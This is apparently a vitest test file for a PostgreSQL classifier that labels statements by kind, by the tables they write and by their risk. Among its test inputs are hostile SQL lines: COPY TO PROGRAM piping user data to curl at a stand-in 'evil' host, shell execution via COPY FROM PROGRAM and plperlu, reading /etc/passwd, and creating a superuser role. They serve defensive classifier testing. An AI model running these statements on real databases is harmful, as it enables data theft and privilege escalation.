/**
 * PostgreSQL classifier, part 2: EXPLAIN / PREPARE / EXECUTE, COPY, session
 * and transaction statements, cursors, maintenance, DDL and privileges.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, initClassifiers, SQL_KINDS } from './index.ts';
import { checkSql, title, type SqlCase } from './testing.ts';

beforeAll(async () => {
  await initClassifiers();
});

const U = 'public.users';

const nested: SqlCase[] = [
  { sql: 'EXPLAIN SELECT * FROM users', s: { kind: 'explain', analyze: false, ro: true, R: [U], inner: { kind: 'select', R: [U] } } },
  { sql: 'EXPLAIN DELETE FROM users', s: { kind: 'explain', analyze: false, ro: true, W: [], inner: { kind: 'delete', W: [U], ro: false } } },
  { sql: 'EXPLAIN ANALYZE DELETE FROM users', s: { kind: 'explain', analyze: true, ro: false, W: [U], inner: { kind: 'delete', where: false } } },
  { sql: 'EXPLAIN (ANALYZE) UPDATE users SET a = 1 WHERE true', s: { analyze: true, W: [U], ro: false, inner: { kind: 'update', trivial: true } } },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM users', s: { analyze: false, ro: true, W: [] } },
  { sql: 'EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM users', s: { analyze: false, ro: true } },
  { sql: 'EXPLAIN (ANALYZE on) SELECT pg_sleep(10)', s: { analyze: true, D: ['pg_sleep'], ro: false } },
  { sql: 'EXPLAIN (ANALYZE 1, BUFFERS) SELECT 1', s: { analyze: true, ro: true } },
  { sql: 'explain analyze verbose select * from users', s: { analyze: true, ro: true, R: [U] } },
  { sql: 'EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM users', s: { analyze: true, W: ['public.x'], ro: false, inner: { kind: 'create', type: 'table' } } },
  { sql: 'EXPLAIN ANALYZE WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d', s: { mcte: true, ro: false, inner: { mcte: true } } },
  // Without its PREPARE in the same text, EXECUTE is blind (on a pooled connection it may be another principal's).
  { sql: 'EXPLAIN ANALYZE EXECUTE p', err: 'WRIT_SQL_UNKNOWN' },
  { sql: 'PREPARE p AS SELECT 1; EXPLAIN ANALYZE EXECUTE p', s: [{ kind: 'prepare' }, { analyze: true, ro: true, inner: { kind: 'execute', executeInner: true } }] },
  { sql: 'PREPARE q AS SELECT * FROM users WHERE id = $1', s: { kind: 'prepare', ro: true, R: [U], names: ['q'], inner: { kind: 'select' } } },
  // A prepared statement runs later, under whoever sends EXECUTE: PREPARE counts as what it prepares.
  {
    sql: 'PREPARE d AS DELETE FROM users; EXECUTE d',
    s: [
      { kind: 'prepare', W: [U], ro: false, inner: { kind: 'delete' } },
      { kind: 'execute', W: [U], ro: false, executeInner: true, inner: { kind: 'delete' } },
    ],
  },
  { sql: 'PREPARE s AS SELECT 1; EXECUTE s', s: [{ kind: 'prepare' }, { kind: 'execute', ro: true, executeInner: true }] },
  { sql: 'EXECUTE unknown_stmt(1)', err: 'WRIT_SQL_UNKNOWN' },
  { sql: 'DEALLOCATE ALL', s: { kind: 'deallocate', ro: false } },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM users', s: { kind: 'declare', R: [U], ro: true, names: ['c'] } },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE', s: { kind: 'declare', locks: true, ro: false } },
  // A cursor not DECLAREd in the same text may be another principal's WITH HOLD cursor: blind.
  { sql: 'FETCH 10 FROM c', err: 'WRIT_SQL_UNKNOWN' },
  { sql: 'MOVE NEXT IN c', err: 'WRIT_SQL_UNKNOWN' },
  { sql: 'CLOSE c', err: 'WRIT_SQL_UNKNOWN' },
  {
    sql: 'DECLARE c CURSOR FOR SELECT * FROM users; FETCH 10 FROM c; MOVE NEXT IN c; CLOSE c',
    s: [
      { kind: 'declare', R: [U], ro: true },
      { kind: 'fetch', ro: true },
      { kind: 'move', ro: true },
      { kind: 'close', ro: true },
    ],
  },
  { sql: 'DO $$ BEGIN PERFORM 1; END $$', s: { kind: 'do', type: 'plpgsql', ro: false } },
  { sql: "DO LANGUAGE plperlu $$ system('id') $$", s: { kind: 'do', type: 'plperlu', ro: false } },
  { sql: 'DO $x$ BEGIN EXECUTE $$DROP TABLE users$$; END $x$', s: { kind: 'do', W: [], ro: false } },
  { sql: 'CALL cleanup(1)', s: { kind: 'call', F: ['cleanup'], names: ['cleanup'], ro: false } },
];

const copy: SqlCase[] = [
  { sql: 'COPY users TO STDOUT', s: { kind: 'copy', copy: { direction: 'to', stdio: true, file: false, program: false, query: false }, R: [U], WR: [U], ro: true } },
  { sql: 'COPY users (id, email) TO STDOUT WITH (FORMAT csv)', s: { C: [`${U}.id`, `${U}.email`], WR: [], ro: true } },
  { sql: 'COPY users FROM STDIN', s: { copy: { direction: 'from', stdio: true }, W: [U], R: [], ro: false } },
  { sql: "COPY users TO '/tmp/users.csv'", s: { copy: { direction: 'to', file: true, stdio: false }, ro: false } },
  { sql: "COPY users FROM '/etc/passwd'", s: { copy: { direction: 'from', file: true }, W: [U] } },
  { sql: 'COPY (SELECT email FROM users) TO STDOUT', s: { copy: { query: true, stdio: true }, R: [U], C: [`${U}.email`], ro: true } },
  { sql: "COPY users TO PROGRAM 'curl -d @- http://evil'", s: { copy: { program: true, file: false }, names: ['curl -d @- http://evil'], ro: false } },
  { sql: "COPY users FROM PROGRAM 'id'", s: { copy: { direction: 'from', program: true }, ro: false } },
  { sql: 'COPY (DELETE FROM users RETURNING *) TO STDOUT', s: { W: [U], ro: false } },
  { sql: 'COPY (SELECT pg_sleep(1)) TO STDOUT', s: { D: ['pg_sleep'], ro: false } },
];

const session: SqlCase[] = [
  { sql: 'SET ROLE admin', s: { kind: 'set', set: { variable: 'role', role: true, local: false }, ro: false } },
  { sql: 'SET LOCAL ROLE admin', s: { set: { role: true, local: true } } },
  { sql: 'RESET ROLE', s: { kind: 'reset', set: { role: true } } },
  { sql: 'SET SESSION AUTHORIZATION postgres', s: { set: { sessionAuthorization: true, role: false } } },
  { sql: 'SET SESSION AUTHORIZATION DEFAULT', s: { set: { sessionAuthorization: true } } },
  { sql: 'SET TRANSACTION READ WRITE', s: { set: { transactionReadWrite: true }, rw: true, ro: false } },
  { sql: 'SET TRANSACTION READ ONLY', s: { set: { transactionReadWrite: false }, rw: false } },
  { sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', s: { rw: true } },
  { sql: 'SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', s: { set: { variable: 'session characteristics', transactionReadWrite: true } } },
  { sql: 'SET default_transaction_read_only = off', s: { set: { transactionReadWrite: true }, rw: true } },
  { sql: 'SET transaction_read_only TO false', s: { rw: true } },
  { sql: "SET transaction_read_only = 'OFF'", s: { rw: true } },
  { sql: 'SET transaction_read_only = on', s: { rw: false } },
  { sql: 'SET default_transaction_read_only TO DEFAULT', s: { rw: true } },
  { sql: 'RESET transaction_read_only', s: { kind: 'reset', rw: true } },
  { sql: 'SET search_path TO evil, public', s: { set: { searchPath: true, variable: 'search_path' } } },
  { sql: 'SET statement_timeout = 0', s: { set: { variable: 'statement_timeout', role: false }, ro: false } },
  { sql: 'RESET ALL', s: { kind: 'reset', set: { variable: 'all', role: true, sessionAuthorization: true, searchPath: true }, rw: true } },
  { sql: 'SET CONSTRAINTS ALL DEFERRED', s: { kind: 'set', set: { variable: 'constraints' } } },
  { sql: 'SHOW search_path', s: { kind: 'show', ro: true } },
  { sql: 'BEGIN', s: { kind: 'transaction', tx: 'begin', rw: false, ro: false } },
  { sql: 'BEGIN READ WRITE', s: { tx: 'begin', rw: true } },
  { sql: 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY', s: { tx: 'start', rw: false } },
  { sql: 'COMMIT', s: { tx: 'commit' } },
  { sql: 'ROLLBACK', s: { tx: 'rollback' } },
  { sql: 'SAVEPOINT s1; RELEASE SAVEPOINT s1; ROLLBACK TO SAVEPOINT s1', s: [{ tx: 'savepoint' }, { tx: 'release' }, { tx: 'rollback_to' }] },
  { sql: "PREPARE TRANSACTION 'x'; COMMIT PREPARED 'x'", s: [{ tx: 'prepare' }, { tx: 'commit_prepared' }] },
  { sql: "LISTEN ch; NOTIFY ch, 'x'; UNLISTEN *", s: [{ kind: 'listen', ro: false }, { kind: 'notify' }, { kind: 'unlisten' }] },
  { sql: 'DISCARD ALL', s: { kind: 'discard', type: 'all', ro: false } },
  { sql: "LOAD 'auto_explain'", s: { kind: 'load', names: ['auto_explain'], ro: false } },
  { sql: 'CHECKPOINT', s: { kind: 'checkpoint', ro: false } },
];

const maintenance: SqlCase[] = [
  { sql: 'VACUUM FULL users', s: { kind: 'vacuum', W: [U], ro: false } },
  { sql: 'VACUUM', s: { kind: 'vacuum', W: [] } },
  { sql: 'ANALYZE users', s: { kind: 'analyze', W: [U] } },
  { sql: 'CLUSTER users USING users_pkey', s: { kind: 'cluster', W: [U] } },
  { sql: 'REINDEX TABLE users', s: { kind: 'reindex', type: 'table', W: [U] } },
  { sql: 'REINDEX DATABASE prod', s: { kind: 'reindex', type: 'database', names: ['prod'] } },
  { sql: 'REFRESH MATERIALIZED VIEW mv', s: { kind: 'refresh', W: ['public.mv'] } },
  { sql: 'LOCK TABLE users IN ACCESS EXCLUSIVE MODE', s: { kind: 'lock', W: [U], ro: false } },
];

const ddl: SqlCase[] = [
  { sql: 'CREATE TABLE t (id int PRIMARY KEY, uid int REFERENCES users(id), CHECK (id > 0))', s: { kind: 'create', type: 'table', W: ['public.t'], R: [U], names: ['public.t'], C: ['public.t.id'] } },
  { sql: 'CREATE TABLE t2 (LIKE users INCLUDING ALL)', s: { W: ['public.t2'], R: [U] } },
  { sql: 'CREATE TABLE copy AS SELECT * FROM users', s: { kind: 'create', type: 'table', W: ['public.copy'], R: [U] } },
  { sql: 'CREATE MATERIALIZED VIEW mv AS SELECT id FROM users', s: { type: 'materialized_view', W: ['public.mv'] } },
  { sql: 'CREATE INDEX i ON users (lower(email))', s: { type: 'index', W: [U], names: ['i'], F: ['lower'], C: [`${U}.email`] } },
  { sql: 'CREATE VIEW v AS SELECT email FROM users', s: { type: 'view', W: ['public.v'], R: [U] } },
  { sql: 'CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', s: { type: 'function', names: ['f'], ro: false } },
  { sql: 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END', s: { type: 'procedure', names: ['p'], W: [U] } },
  { sql: 'CREATE ROLE hacker SUPERUSER LOGIN', s: { kind: 'create', type: 'role', names: ['hacker'] } },
  { sql: 'ALTER ROLE app WITH SUPERUSER', s: { kind: 'alter', type: 'role', names: ['app'] } },
  { sql: "ALTER USER app PASSWORD 'x'", s: { kind: 'alter', type: 'role' } },
  { sql: 'DROP ROLE app', s: { kind: 'drop', type: 'role', names: ['app'] } },
  { sql: 'CREATE SCHEMA s', s: { type: 'schema', names: ['s'] } },
  { sql: 'CREATE SCHEMA s CREATE TABLE x (a int)', s: { type: 'schema', W: ['public.x'] } },
  { sql: 'DROP SCHEMA public CASCADE', s: { kind: 'drop', type: 'schema', names: ['public'] } },
  { sql: 'CREATE EXTENSION dblink', s: { type: 'extension', names: ['dblink'] } },
  { sql: 'ALTER TABLE users DISABLE ROW LEVEL SECURITY', s: { kind: 'alter', type: 'table', W: [U], actions: ['disablerowsecurity'] } },
  { sql: 'ALTER TABLE users ADD COLUMN x int, DROP COLUMN y', s: { actions: ['addcolumn', 'dropcolumn'] } },
  { sql: 'ALTER TABLE users RENAME TO u2', s: { kind: 'alter', type: 'table', W: [U] } },
  { sql: 'ALTER TABLE users OWNER TO hacker', s: { W: [U], actions: ['changeowner'] } },
  { sql: 'ALTER TABLE users SET SCHEMA other', s: { kind: 'alter', W: [U] } },
  { sql: 'ALTER INDEX i RENAME TO j', s: { kind: 'alter', type: 'index', W: ['public.i'] } },
  { sql: 'DROP TABLE users', s: { kind: 'drop', type: 'table', W: [U], names: [U] } },
  { sql: 'DROP TABLE IF EXISTS a, s.b CASCADE', s: { W: ['public.a', 's.b'] } },
  { sql: 'DROP VIEW v', s: { type: 'view', W: ['public.v'] } },
  { sql: 'DROP INDEX CONCURRENTLY i', s: { type: 'index', W: ['public.i'] } },
  { sql: 'DROP FUNCTION f(int)', s: { type: 'function', names: ['f'], W: [] } },
  { sql: 'DROP POLICY p ON users', s: { type: 'policy', W: [U], names: ['users.p'] } },
  { sql: 'DROP DATABASE prod', s: { type: 'database', names: ['prod'] } },
  { sql: 'TRUNCATE users, orders', s: { kind: 'truncate', W: [U, 'public.orders'], ro: false } },
  { sql: 'TRUNCATE TABLE ONLY users RESTART IDENTITY', s: { kind: 'truncate', W: [U] } },
  { sql: 'GRANT SELECT ON users TO app', s: { kind: 'grant', type: 'table', W: [U], names: [U] } },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO app', s: { kind: 'grant', type: 'all_tables_in_schema', names: ['public'] } },
  { sql: 'REVOKE INSERT ON users FROM app', s: { kind: 'revoke', W: [U] } },
  { sql: 'GRANT admin TO app', s: { kind: 'grant', type: 'role', names: ['admin'] } },
  { sql: 'GRANT EXECUTE ON FUNCTION f() TO app', s: { kind: 'grant', type: 'function', names: ['f'] } },
  { sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app', s: { kind: 'grant', type: 'default_privileges' } },
  { sql: "COMMENT ON TABLE users IS 'x'", s: { kind: 'comment', type: 'table', names: [U] } },
  { sql: "COMMENT ON COLUMN users.email IS 'pii'", s: { kind: 'comment', type: 'column', names: ['users.email'] } },
  { sql: "SECURITY LABEL ON TABLE users IS 'secret'", s: { kind: 'security_label', type: 'table' } },
  { sql: "ALTER SYSTEM SET archive_command = 'curl x'", s: { kind: 'alter', type: 'system', names: ['archive_command'] } },
  { sql: 'CREATE TRIGGER tr AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()', s: { type: 'trigger', W: [U], names: ['tr'] } },
  { sql: 'CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM users', s: { type: 'rule', W: ['public.t'], R: [U] } },
  { sql: 'CREATE POLICY p ON users USING (true)', s: { type: 'policy', W: [U] } },
  { sql: 'CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', s: { type: 'server', names: ['s'] } },
  { sql: 'IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local', s: { kind: 'import', type: 'foreign_schema' } },
  { sql: 'CREATE FOREIGN TABLE ft (a int) SERVER s', s: { type: 'foreign_table', W: ['public.ft'] } },
  { sql: 'REASSIGN OWNED BY a TO b', s: { kind: 'reassign', type: 'owned' } },
  { sql: 'DROP OWNED BY a', s: { kind: 'drop', type: 'owned' } },
  { sql: 'CREATE PUBLICATION p FOR TABLE users', s: { type: 'publication', names: ['p'] } },
  { sql: "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", s: { type: 'subscription', names: ['s'] } },
  { sql: "CREATE TYPE mood AS ENUM ('a', 'b')", s: { type: 'type' } },
  { sql: 'CREATE TYPE ct AS (a int)', s: { type: 'type', R: [], names: ['public.ct'] } },
  { sql: 'CREATE DATABASE d', s: { type: 'database', names: ['d'] } },
  { sql: 'ALTER DATABASE d SET work_mem = 1', s: { kind: 'alter', type: 'database' } },
  { sql: 'CREATE SEQUENCE s', s: { type: 'sequence', W: ['public.s'] } },
  { sql: 'ALTER SEQUENCE s RESTART', s: { kind: 'alter', type: 'sequence' } },
  { sql: "CREATE TABLESPACE ts LOCATION '/tmp'", s: { type: 'tablespace' } },
  { sql: 'CREATE AGGREGATE myavg (int) (sfunc = int4pl, stype = int)', s: { kind: 'create', type: 'aggregate', names: ['myavg'] } },
  { sql: 'CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)', s: { type: 'operator' } },
  { sql: "CREATE DOMAIN email AS text CHECK (VALUE ~ '@')", s: { type: 'domain' } },
  { sql: 'CREATE STATISTICS st ON a, b FROM t', s: { type: 'statistics', W: ['public.t'] } },
  { sql: 'CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', s: { type: 'event_trigger' } },
  // Without a handler the grammar turns CREATE LANGUAGE into CREATE EXTENSION, as the server does.
  { sql: 'CREATE LANGUAGE plperlu', s: { type: 'extension', names: ['plperlu'] } },
  { sql: 'CREATE LANGUAGE plperlu HANDLER h', s: { type: 'language', names: ['plperlu'] } },
  { sql: 'CREATE CAST (int AS text) WITH INOUT', s: { type: 'cast' } },
  { sql: 'CREATE USER MAPPING FOR app SERVER s', s: { type: 'user_mapping' } },
];

function table(name: string, cases: SqlCase[]): void {
  describe(name, () => {
    it.each(cases.map((c) => [title(c.sql), c] as const))('%s', (_, c) => checkSql(classifySql(c.sql), c));
  });
}

table('EXPLAIN, PREPARE, EXECUTE, cursors, DO, CALL', nested);
table('COPY', copy);
table('session and transaction', session);
table('maintenance', maintenance);
table('DDL and privileges', ddl);

describe('facts shape', () => {
  it('only reports kinds from SQL_KINDS', () => {
    const all = [...nested, ...copy, ...session, ...maintenance, ...ddl];
    for (const c of all) for (const s of classifySql(c.sql).statements) expect(SQL_KINDS).toContain(s.kind);
  });

  it('lists every dangerous function among the functions', () => {
    const f = classifySql("SELECT pg_sleep(1), upper(x), nextval('s') FROM t").statements[0];
    expect(f?.dangerousFunctions.every((d) => f.functions.includes(d))).toBe(true);
    expect(f?.functions).toContain('upper');
  });
});
